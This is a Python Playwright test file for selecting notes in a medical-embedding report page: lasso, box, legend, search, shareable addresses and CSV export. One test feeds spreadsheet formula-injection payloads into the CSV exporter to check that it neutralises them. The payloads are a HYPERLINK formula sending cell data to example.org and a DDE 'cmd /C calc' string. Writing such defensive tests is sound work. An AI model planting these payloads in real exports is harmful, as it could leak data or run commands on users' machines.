"""Selecting notes on the page: by what is drawn, by legend and slice, by search; and what is taken away."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import numpy.typing as npt
import pytest

from medembed_pipeline.report.page import render_page
from medembed_pipeline_tests.report.opened_page import (
    ALONE,
    NOTES,
    SPECIALTIES,
    VIEWER,
    WITHOUT_WEBGL,
    Opened,
    Opener,
    decoded,
    needs_chromium,
)
from medembed_pipeline_tests.report.synthetic import WIDTH, synthetic_payload

pytestmark = needs_chromium

VIEW = "medembedPage.app.mapview.selection"
LEVELS = f"Array.from({{length: {NOTES}}}, (_, at) => {VIEWER}.looks[4 * at + 1])"
PLACES = (
    f"Array.from({{length: {NOTES}}}, (_, at) => {{ const p = {VIEWER}.placeOf(at); return [p.x, p.y]; }})"
)
FREE = """() => {
  const box = document.querySelector('.stage').getBoundingClientRect();
  return [box.left, box.top, box.width, box.height];
}"""
DIMMED, BRIGHT, FAINT = 0, 2, 3
Corners = list[tuple[float, float]]
LASSO: Corners = [(0.3, 0.25), (0.55, 0.2), (0.7, 0.5), (0.5, 0.45), (0.45, 0.75), (0.25, 0.6)]


def selected(one: Opened) -> list[int]:
    """The notes that are selected, once the page has worked out which."""
    one.page.wait_for_timeout(50)
    found: list[int] = one.ask(f"[...{VIEW}.notes].sort((left, right) => left - right)")
    return found


def winding(corners: npt.ArrayLike, places: npt.ArrayLike) -> npt.NDArray[np.bool_]:
    """Whether a polygon winds around each place: the sum of the angles under which its sides are seen."""
    ring, points = np.asarray(corners, float), np.asarray(places, float)
    away = ring[None] - points[:, None]
    after = np.roll(away, -1, axis=1)
    cross = away[..., 0] * after[..., 1] - away[..., 1] * after[..., 0]
    turns = np.arctan2(cross, (away * after).sum(2)).sum(1) / (2 * np.pi)
    return np.abs(turns) > 0.5


def from_sides(corners: npt.ArrayLike, places: npt.ArrayLike) -> npt.NDArray[np.float64]:
    """How far each place is from the nearest side."""
    ring, points = np.asarray(corners, float), np.asarray(places, float)
    along = np.roll(ring, -1, axis=0) - ring
    share = ((points[:, None] - ring[None]) * along).sum(2) / (along**2).sum(1)
    foot = ring[None] + np.clip(share, 0, 1)[..., None] * along
    found: npt.NDArray[np.float64] = np.linalg.norm(points[:, None] - foot, axis=2).min(1)
    return found


def draw(one: Opened, shares: Corners, *, close: bool = True) -> Corners:
    """Drag along corners given in shares of the stage; returns them in pixels of the stage."""
    one.page.locator(".stage").scroll_into_view_if_needed()
    left, top, width, height = one.ask(FREE)
    corners = [(round(x * width), round(y * height)) for x, y in shares]
    mouse = one.page.mouse
    mouse.move(left + corners[0][0], top + corners[0][1])
    mouse.down()
    for x, y in [*corners[1:], *(corners[:1] if close else [])]:
        mouse.move(left + x, top + y, steps=7)
    mouse.up()
    return [(float(x), float(y)) for x, y in corners]


@pytest.mark.parametrize(
    ("address", "script"),
    [
        ("#map=umap-2", ""),
        ("#map=joint_pca-2&t=0.3&view=0.6,0.35,2.5,0.3,-0.2", ""),
        ("#map=aligned_umap-3&view=0.3,0.2,1.5,0.05,0&t=0", ""),
        ("#map=umap-2", WITHOUT_WEBGL),
    ],
)
def test_a_lasso_selects_the_notes_inside_it_and_no_other(
    opened: Opener, page_path: Path, address: str, script: str
) -> None:
    one = opened(page_path, address, script=script)
    one.page.click('.select-bar button:text-is("lasso")')
    corners = draw(one, LASSO)
    places = np.array(one.ask(PLACES))
    inside = np.flatnonzero(winding(corners, places)).tolist()
    found = selected(one)
    unsure = set(np.flatnonzero(from_sides(corners, places) < 2).tolist())
    assert 10 < len(inside) < NOTES - 10 and set(found) ^ set(inside) <= unsure
    assert one.page.inner_text(".selected [role=status]") == f"{len(found)} notes selected"
    levels = one.ask(LEVELS)
    assert [at for at in range(NOTES) if levels[at] == BRIGHT] == found
    assert all(levels[at] == DIMMED for at in set(range(NOTES)) - set(found))
    # The other model, and another map: the same notes.
    one.ask("medembedPage.app.store.set({t: 1, map: 'tsne-2'})")
    assert one.ask(LEVELS) == levels and selected(one) == found
    assert one.is_clean()


def test_the_notes_are_exactly_those_of_the_polygon_in_the_address(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any]
) -> None:
    one = opened(page_path, "#map=umap-2&t=0.4&view=0.6,0.35,3,0.5,0.1")
    one.page.keyboard.down("Shift")
    drawn = draw(one, LASSO)
    one.page.keyboard.up("Shift")
    found = selected(one)
    kind, key, percent, _, _, digits, ring = one.state["select"].split(".")
    assert (kind, key, percent) == ("area", "umap-2", "40")
    corners = np.array(ring.split("_"), float).reshape(-1, 2) / 10 ** int(digits)
    (given,) = [each for each in shown_payload["maps"] if each["key"] == "umap-2"]
    clouds = [decoded(given[model], "<f4").reshape(-1, 2).astype(float) for model in ("baseline", "tuned")]
    middle = np.concatenate(clouds).mean(axis=0)
    before, after = clouds[0] - middle, clouds[1] - middle
    radii = np.sort(np.linalg.norm(np.concatenate([before, after]), axis=1))
    scale = max(radii[int(0.99 * (2 * NOTES - 1))] * 1.06, radii[-1] / 2.2)
    places = 0.94 * (before + 0.4 * (after - before)) / scale
    assert found == np.flatnonzero(winding(corners, places)).tolist() and found
    # A line of 40 drawn places is kept with as many corners as it needs, each where it was drawn.
    _, _, width, height = one.ask(FREE)
    half = min(width, height) / 2
    pixels = np.array([width, height]) / 2 * [1.5, 0.9] + corners * [3 * half, -3 * half]
    assert len(corners) <= 2 * len(LASSO)
    for corner in drawn:
        assert np.linalg.norm(pixels - corner, axis=1).min() < 1.5


def test_a_line_that_crosses_itself_selects_all_that_it_winds_around(opened: Opener, page_path: Path) -> None:
    one = opened(page_path, "#map=umap-2")
    one.page.click('.select-bar button:text-is("lasso")')
    twice: Corners = [(0.3, 0.3), (0.7, 0.3), (0.7, 0.7), (0.3, 0.7), (0.3, 0.31), (0.6, 0.31), (0.6, 0.6)]
    corners = draw(one, twice)
    places = np.array(one.ask(PLACES))
    inside = set(np.flatnonzero(winding(corners, places)).tolist())
    unsure = set(np.flatnonzero(from_sides(corners, places) < 2).tolist())
    assert set(selected(one)) ^ inside <= unsure and len(inside) > 10


def test_a_box_adds_and_takes_away(opened: Opener, page_path: Path) -> None:
    one = opened(page_path, "#map=umap-2")
    places = np.array(one.ask(PLACES))
    one.page.click('.select-bar button:text-is("box")')

    def boxed(left: float, top: float, right: float, bottom: float) -> set[int]:
        (x0, y0), (x1, y1) = draw(one, [(left, top), (right, bottom)], close=False)
        x, y = places.T
        return set(np.flatnonzero((x > x0) & (x < x1) & (y > y0) & (y < y1)).tolist())

    first = boxed(0.2, 0.3, 0.5, 0.6)
    assert set(selected(one)) == first and first
    one.page.click('.select-bar button:text-is("adds")')
    second = boxed(0.45, 0.3, 0.65, 0.7)
    assert set(selected(one)) == first | second and second - first
    one.page.keyboard.down("Alt")
    third = boxed(0.4, 0.2, 0.55, 0.5)
    one.page.keyboard.up("Alt")
    assert set(selected(one)) == (first | second) - third and third & (first | second)
    one.page.click('.select-bar button:text-is("replaces")')
    one.page.keyboard.down("Control")
    fourth = boxed(0.1, 0.1, 0.3, 0.9)
    one.page.keyboard.up("Control")
    assert set(selected(one)) == ((first | second) - third) | fourth
    one.page.go_back()
    one.wait(f"{VIEW}.notes.size === {len((first | second) - third)}")
    one.page.click('.select-bar button:text-is("takes away")')
    gone = boxed(0.01, 0.01, 0.95, 0.99)
    assert not set(selected(one)) & gone
    assert one.is_clean()


def test_a_drag_that_is_given_up_selects_nothing_and_a_click_still_opens(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any]
) -> None:
    one = opened(page_path, "#map=umap-2")
    one.page.click('.select-bar button:text-is("lasso")')
    one.page.locator(".stage").scroll_into_view_if_needed()
    left, top, width, height = one.ask(FREE)
    view = one.ask(f"{VIEWER}.view")
    one.page.mouse.move(left + 0.3 * width, top + 0.3 * height)
    one.page.mouse.down()
    one.page.mouse.move(left + 0.6 * width, top + 0.7 * height, steps=5)
    assert one.page.query_selector(".overlay .drawn") is not None
    one.page.keyboard.press("Escape")
    assert one.page.query_selector(".overlay .drawn") is None
    one.page.mouse.up()
    assert selected(one) == [] and one.state["select"] == ""
    spot = one.ask(ALONE)
    one.page.mouse.click(spot["x"], spot["y"])
    assert one.state["note"] == shown_payload["notes"]["id"][spot["at"]]
    one.page.keyboard.press("Escape")
    one.wait("medembedPage.app.store.state.note === ''")
    # With the note closed the map may lie elsewhere.
    one.page.locator(".stage").scroll_into_view_if_needed()
    spot = one.ask(ALONE)
    one.page.keyboard.down("Shift")
    one.page.mouse.click(spot["x"], spot["y"])
    one.page.keyboard.up("Shift")
    assert selected(one) == [spot["at"]] and one.state["note"] == ""
    assert one.ask(f"{VIEWER}.view") == view


def test_legend_slice_and_search_are_selected_as_they_are_lit(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any]
) -> None:
    one = opened(page_path)
    sets = shown_payload["notes"]["specialties"]
    names = shown_payload["specialty_names"]
    entry = '.entry[data-entry="{}"]'.format
    one.page.click(entry(names[1]), modifiers=["Shift"])
    orthopedic = [at for at in range(NOTES) if 1 in sets[at]]
    assert selected(one) == orthopedic and one.state["lit"] == ""
    assert one.page.inner_text(f"{entry(names[1])} .number") == f"{len(orthopedic)} of {len(orthopedic)}"
    one.page.click(entry(names[2]), modifiers=["Shift", "Control"])
    both = [at for at in range(NOTES) if {1, 2} & set(sets[at])]
    assert selected(one) == both
    one.page.select_option("#only", "site=South")
    (site,) = [each for each in shown_payload["slices"] if each["name"] == "site"]
    south = [at for at in range(NOTES) if site["values"].index("South") in site["of"][at]]
    levels = one.ask(LEVELS)
    assert [at for at in range(NOTES) if levels[at] == BRIGHT] == sorted(set(both) & set(south))
    assert [at for at in range(NOTES) if levels[at] == FAINT] == sorted(set(south) - set(both))
    assert f"{len(set(both) - set(south))} of them are not shown" in one.page.inner_text(".selection")
    assert one.page.inner_text(".select-bar .choice >> nth=2").split("\n")[1] == f"the {len(south)} lit"
    one.page.click('.select-bar button:has-text(" lit")')
    assert selected(one) == south
    one.page.fill("#find", '"subjective" near:no')
    one.wait("/no note whose id begins with no/.test(document.querySelector('.found').textContent)")
    one.page.fill("#find", "chronic edema")
    one.wait("/found/.test(document.querySelector('.found').textContent)")
    one.wait(f"{VIEWER}.found?.size > 0")
    one.page.click('.select-bar button:has-text(" lit")')
    one.wait(f"{VIEW}.notes.size < {len(south)}")
    found = set(one.ask(f"[...{VIEWER}.found]"))
    assert selected(one) == sorted(found & set(south))
    one.page.select_option("#only", "")
    one.page.fill("#find", "")
    one.wait(f"{VIEWER}.found === null")
    assert selected(one) == sorted(found & set(south))
    assert one.is_clean()


def test_every_colour_can_be_selected_by(opened: Opener, page_path: Path) -> None:
    one = opened(page_path, "#map=umap-2&t=0")
    colours = one.ask("[...document.querySelectorAll('#colour option')].map((one) => one.value)")
    for colour in colours:
        one.page.select_option("#colour", colour)
        entries = one.page.locator(".entry")
        entries.nth(0).click(modifiers=["Shift"])
        own = one.ask(
            f"Array.from({{length: {NOTES}}}, (_, at) => at).filter((at) => {VIEWER}.belongs(at, "
            f"{VIEWER}.scheme.entries.findIndex((e) => e.key === document.querySelector('.entry').dataset.entry)))"
        )
        assert selected(one) == own and own, colour
        # What was selected by one model's neighbours stays, whatever the slider shows.
        one.ask("medembedPage.app.store.set({t: 1, map: 'tsne-2'})")
        assert selected(one) == own, colour
        one.ask("medembedPage.app.store.set({t: 0, map: 'umap-2'})")


def test_the_address_opens_the_same_selection(opened: Opener, page_path: Path) -> None:
    one = opened(page_path, "#map=aligned_umap-3&colour=slice%3Asite")
    one.page.keyboard.down("Shift")
    draw(one, LASSO)
    one.page.keyboard.up("Shift")
    one.page.click('.select-bar button:text-is("adds")')
    one.page.click('.entry[data-entry="North"]', modifiers=["Shift"])
    one.page.select_option("#only", "age=18-39")
    one.page.click('.select-bar button:text-is("takes away")')
    one.page.click('.select-bar button:has-text(" lit")')
    one.page.fill("#find", 'subjective "left knee"')
    one.wait(f"{VIEWER}.found?.size > 0")
    one.page.click('.select-bar button:text-is("adds")')
    one.page.click('.select-bar button:has-text(" lit")')
    one.page.wait_for_timeout(200)
    one.ask(f"{VIEW}.toggle({VIEW}.notes.has(7) ? 8 : 7)")
    found = selected(one)
    assert one.state["select"].count(" ") == 4 and found
    one.wait("/select=/.test(location.hash)")
    one.page.wait_for_timeout(200)
    address = one.ask("location.hash")
    assert len(address) < 600
    other = opened(page_path, address)
    other.wait(f"{VIEW}.notes.size > 0")
    other.page.wait_for_timeout(200)
    assert selected(other) == found and other.state == one.state
    assert other.is_clean()


def test_the_address_is_copied_or_shown_to_be_copied(opened: Opener, page_path: Path) -> None:
    one = opened(page_path, "#select=all")
    one.ask("void (navigator.clipboard.writeText = async (text) => { window.copied = text; })")
    one.page.click(".selection .address")
    one.wait("window.copied === location.href")
    assert "is copied" in one.page.inner_text(".away") and one.state["select"] == "all"
    one.ask("void (navigator.clipboard.writeText = () => Promise.reject(new Error()))")
    one.page.click(".selection .address")
    one.wait("document.querySelector('.away input')")
    assert one.page.input_value(".away input") == one.ask("location.href") and "select=all" in one.ask(
        "location.href"
    )
    assert one.is_clean()


@pytest.mark.parametrize(
    "select",
    [
        "area.nothing.100.0.0.3.1_2_3_4_5_6",
        "area.umap-2.100.0.0.3.1_2_3",
        "area",
        "is.specialty.t.umap-2.nobody",
        "slice.site%3DNowhere",
        "near.ffffffffffff.t.all",
        "notes.zz",
        "constructor",
        "find.x.y",
        "%25%25.*.*-",
    ],
)
def test_a_selection_from_elsewhere_breaks_nothing(opened: Opener, page_path: Path, select: str) -> None:
    one = opened(page_path, f"#select={select}")
    assert selected(one) == []
    assert "not in this report" in one.page.inner_text(".selection")
    one.page.click('.select-bar button:text-is("Clear")')
    assert one.state["select"] == "" and one.page.locator(".selection").is_hidden()
    assert one.is_clean()


def test_a_selection_too_long_for_an_address_says_so_and_is_kept(opened: Opener, tmp_path: Path) -> None:
    notes = 1200
    file = tmp_path / "long.html"
    file.write_bytes(render_page(synthetic_payload(notes, SPECIALTIES, tables=False, methods=("pca",)), None))
    one = opened(file)
    # Many areas with few notes in them are named one by one; too many notes are not.
    area = " ".join(["area.pca-2.100.0.0.9." + "_".join(["123456789"] * 240)] * 8)
    third = f"'notes.' + {VIEW}.report.notes.id[3] + ' '"
    one.ask(f"(area) => {VIEW}.set(medembedPage.selection.parsed({third} + area))", area)
    one.wait(f"{VIEW}.notes.size === 1")
    assert one.state["select"] == f"notes.{one.ask(f'{VIEW}.report.shortId(3)')}"
    one.ask(
        f"{VIEW}.set([{{add: true, conditions: [medembedPage.selection.make.notes({VIEW}.report, "
        f"Array.from({{length: {notes - 100}}}, (_, at) => at))]}}])"
    )
    one.wait(f"{VIEW}.notes.size === {notes - 100}")
    assert "too long for an address" in one.page.inner_text(".selection")
    assert one.page.query_selector(".selection .address") is None
    assert "select=" not in one.ask("location.hash")
    one.ask("medembedPage.app.open(5)")
    one.page.go_back()
    one.wait("medembedPage.app.store.state.note === ''")
    assert len(selected(one)) == notes - 100
    one.page.keyboard.press("Escape")
    assert selected(one) == []
    one.page.go_back()
    one.wait(f"{VIEW}.notes.size === {notes - 100}")


def test_the_file_holds_what_is_known_of_the_selected_notes_and_no_text(
    opened: Opener, tmp_path: Path, shown_texts: list[str]
) -> None:
    payload = synthetic_payload(NOTES, SPECIALTIES)
    payload["specialty_names"][0] = 'Heart, "lung"\nand more'
    payload["notes"]["source"][4] = "b,c.csv:9, d.csv:12"
    file = tmp_path / "named.html"
    file.write_bytes(render_page(payload, shown_texts))
    one = opened(file, "#only=site%3DEast")
    one.page.click('.select-bar button:has-text(" lit")')
    found = selected(one)
    one.page.locator(".selection button.download").scroll_into_view_if_needed()
    with one.page.expect_download() as started:
        one.page.click(".selection button.download")
    assert started.value.suggested_filename == "selected-notes.csv"
    text = Path(started.value.path()).read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    notes = payload["notes"]

    def names(column: str, of: list[int]) -> str:
        return "; ".join(payload[column][place] for place in of)

    expected = [
        {
            "note_id": notes["id"][at],
            "split": payload["split_names"][notes["split"][at]],
            "specialties": names("specialty_names", notes["specialties"][at]),
            "document_types": names("document_type_names", notes["document_types"][at]),
            **{
                each["name"]: "; ".join(each["values"][place] for place in each["of"][at])
                for each in payload["slices"]
            },
            "source": notes["source"][at],
        }
        for at in found
    ]
    assert rows == expected and len(rows) > 10
    assert "zebra" not in text and "SUBJECTIVE" not in text
    assert [url.partition("#")[0] for url in one.requests if not url.startswith("blob:")] == [file.as_uri()]
    assert one.is_clean()


@pytest.mark.parametrize(
    "harmful",
    [
        '=HYPERLINK("http://example.org?x="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_no_cell_of_the_file_is_a_formula_to_a_spreadsheet(
    opened: Opener, tmp_path: Path, shown_texts: list[str], harmful: str
) -> None:
    payload = synthetic_payload(NOTES, SPECIALTIES)
    payload["slices"][0]["name"] = harmful
    payload["slices"][0]["values"][0] = harmful
    payload["notes"]["source"] = [f"{harmful}:{row}" for row in range(NOTES)]
    file = tmp_path / "harmful.html"
    file.write_bytes(render_page(payload, shown_texts))
    one = opened(file)
    text = one.ask("medembedPage.selection.csv(medembedPage.app.report, [0, 1, 2, 3, 4, 5, 6, 7])")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [
        cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and cell.strip()
    ]
    # An apostrophe is all that is added.
    assert rows[0].count(f"'{harmful}") == 1
    assert [row[-1] for row in rows[1:]] == [f"'{harmful}:{row}" for row in range(8)]
    assert one.is_clean()


def test_what_is_selected_is_summed_up_and_listed(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any]
) -> None:
    one = opened(page_path, "#colour=split")
    one.page.click('.entry[data-entry="test"]', modifiers=["Shift"])
    found = selected(one)
    ledger = shown_payload["tables"]["retrieval_ledger"]
    change = dict(zip(ledger["note_id"], ledger["change"], strict=True))
    scored = [change[at] for at in found if at in change]
    facts = one.page.inner_text(".selection .facts").replace("\u2212", "-")
    assert f"test {len(found)}" in facts and "train 0" in facts
    assert f"mean change {np.mean(scored):+.2f} over the {len(scored)} scored notes" in facts
    distance = decoded(shown_payload["movement"]["distance"], "<f4")
    assert f"{distance[found].mean():.2f} in the mean" in facts
    counts = [sum(place in shown_payload["notes"]["specialties"][at] for at in found) for place in range(8)]
    best = int(np.argmax(counts))
    assert f"{shown_payload['specialty_names'][best]} {max(counts)}" in facts
    rows = one.page.locator(".selection tbody tr")
    assert rows.count() == 8
    one.page.click('.selection th button:text("Change")')
    first = int(rows.nth(0).locator(".note").get_attribute("data-note"))
    assert change[first] == min(scored)
    rows.nth(0).locator("button >> text=take out").focus()
    one.page.keyboard.press("Enter")
    assert selected(one) == [at for at in found if at != first]
    assert one.ask("document.activeElement.textContent") == "take out"
    assert int(rows.nth(0).locator(".note").get_attribute("data-note")) != first
    rows.nth(0).locator(".note").click()
    assert one.state["note"] in {shown_payload["notes"]["id"][at] for at in found}
    one.page.click("#note .select-note")
    assert len(selected(one)) == len(found) - 2
    one.page.click("#note .select-note")
    assert len(selected(one)) == len(found) - 1
    assert one.is_clean()


def test_nearest_notes_are_found_and_selected(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any], shown_texts: list[str]
) -> None:
    ids = shown_payload["notes"]["id"]
    near = {
        model: decoded(shown_payload["neighbors"][model], "<i4").reshape(-1, WIDTH).tolist()
        for model in ("baseline", "tuned")
    }
    hits = "[...document.querySelectorAll('.hits button')].map((one) => Number(one.dataset.note))"
    one = opened(page_path)
    for query in (f"near:{ids[31]}", f"near:{ids[31][:8]}", f"NEAR:{ids[31][:9]}"):
        one.page.fill("#find", query)
        one.wait(f"{hits}.length === {WIDTH}")
        assert one.ask(hits) == near["tuned"][31]
        assert "in the tuned model" in one.page.inner_text(".found")
        one.page.fill("#find", "")
        one.wait(f"{hits}.length === 0")
    word = shown_texts[near["tuned"][31][3]].split()[-1].strip(".")
    one.page.fill("#find", f"{word} near:{ids[31]}")
    one.wait(f"{hits}.length === 1")
    assert one.ask(hits) == [at for at in near["tuned"][31] if f"{word}." in shown_texts[at]]
    one.page.fill("#find", f"near:{ids[31]}")
    one.wait(f"{hits}.length === {WIDTH}")
    one.ask("medembedPage.app.store.set({t: 0})")
    one.wait("/in the baseline/.test(document.querySelector('.found').textContent)")
    assert one.ask(hits) == near["baseline"][31]
    one.page.click('.select-bar button:has-text("10 lit")')
    one.page.fill("#find", "")
    one.wait(f"{hits}.length === 0")
    one.ask("medembedPage.app.store.set({t: 1})")
    assert selected(one) == sorted(near["baseline"][31])
    one.ask("medembedPage.app.open(31)")
    one.page.click("#note .columns > div:nth-child(2) .select-near")
    assert selected(one) == sorted(near["tuned"][31])
    ledger = shown_payload["tables"]["retrieval_ledger"]
    one.ask(f"medembedPage.app.open({ledger['note_id'][0]})")
    one.page.click("#note .columns > div:nth-child(1) .select-near")
    assert selected(one) == sorted(ledger["neighbors_baseline"][0])
    assert one.is_clean()


def test_selecting_works_by_keyboard_alone(
    opened: Opener, page_path: Path, shown_payload: dict[str, Any]
) -> None:
    one = opened(page_path, "#map=umap-2")
    seen = []
    for _ in range(90):
        one.page.keyboard.press("Tab")
        seen.append(one.ask("document.activeElement.textContent.slice(0, 12)"))
    assert {"move", "lasso", "box", "replaces", "adds", "takes away", "all", "in view"} <= set(seen)
    distance = decoded(shown_payload["movement"]["distance"], "<f4")
    order = sorted(range(NOTES), key=lambda place: (-distance[place], place))
    one.page.focus(".stage")
    one.page.keyboard.press("n")
    one.page.keyboard.press("Space")
    assert selected(one) == [order[0]]
    one.page.keyboard.press("Escape")
    assert selected(one) == [] and one.state["select"] == ""
    for _ in range(4):
        one.page.keyboard.press("+")
    one.page.keyboard.press("v")
    places, (_, _, width, height) = np.array(one.ask(PLACES)), one.ask(FREE)
    x, y = places.T
    inside = np.flatnonzero((x > 0) & (x < width) & (y > 0) & (y < height)).tolist()
    assert selected(one) == inside and 0 < len(inside) < NOTES
    one.page.focus(f'.entry[data-entry="{shown_payload["specialty_names"][0]}"]')
    one.page.keyboard.press("Shift+Enter")
    first = [at for at in range(NOTES) if 0 in shown_payload["notes"]["specialties"][at]]
    assert selected(one) == first
    one.page.focus(".selected button")
    one.page.keyboard.press("Enter")
    assert selected(one) == [] and one.ask("document.activeElement.classList.contains('stage')")
    one.page.keyboard.press("v")
    assert selected(one) == inside
    # With a note open Escape closes it first.
    one.ask("medembedPage.app.open(3)")
    one.page.keyboard.press("Escape")
    assert one.state["note"] == "" and selected(one) == inside
    one.page.keyboard.press("Escape")
    assert selected(one) == []
    assert one.is_clean()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_selection_fits_a_phone_and_is_drawn_with_a_finger(
    opened: Opener, page_path: Path, scheme: str
) -> None:
    one = opened(
        page_path, "#map=umap-2", viewport={"width": 360, "height": 740}, color_scheme=scheme, has_touch=True
    )
    one.page.click('.select-bar button:text-is("lasso")')
    draw(one, LASSO)
    assert selected(one)
    wide = """[...document.querySelectorAll('#map *')].filter((one) => {
      const box = one.getBoundingClientRect();
      return box.width && box.right > 361 && !one.closest('.scroll, svg');
    }).map((one) => `${one.tagName}.${one.className}`)"""
    assert one.ask(wide) == [] and one.ask("document.documentElement.scrollWidth") <= 360
    one.ask("medembedPage.app.open(3)")
    one.page.click("#note .select-near >> nth=0")
    assert one.state["note"] == "" and len(selected(one)) == WIDTH
    assert one.is_clean()
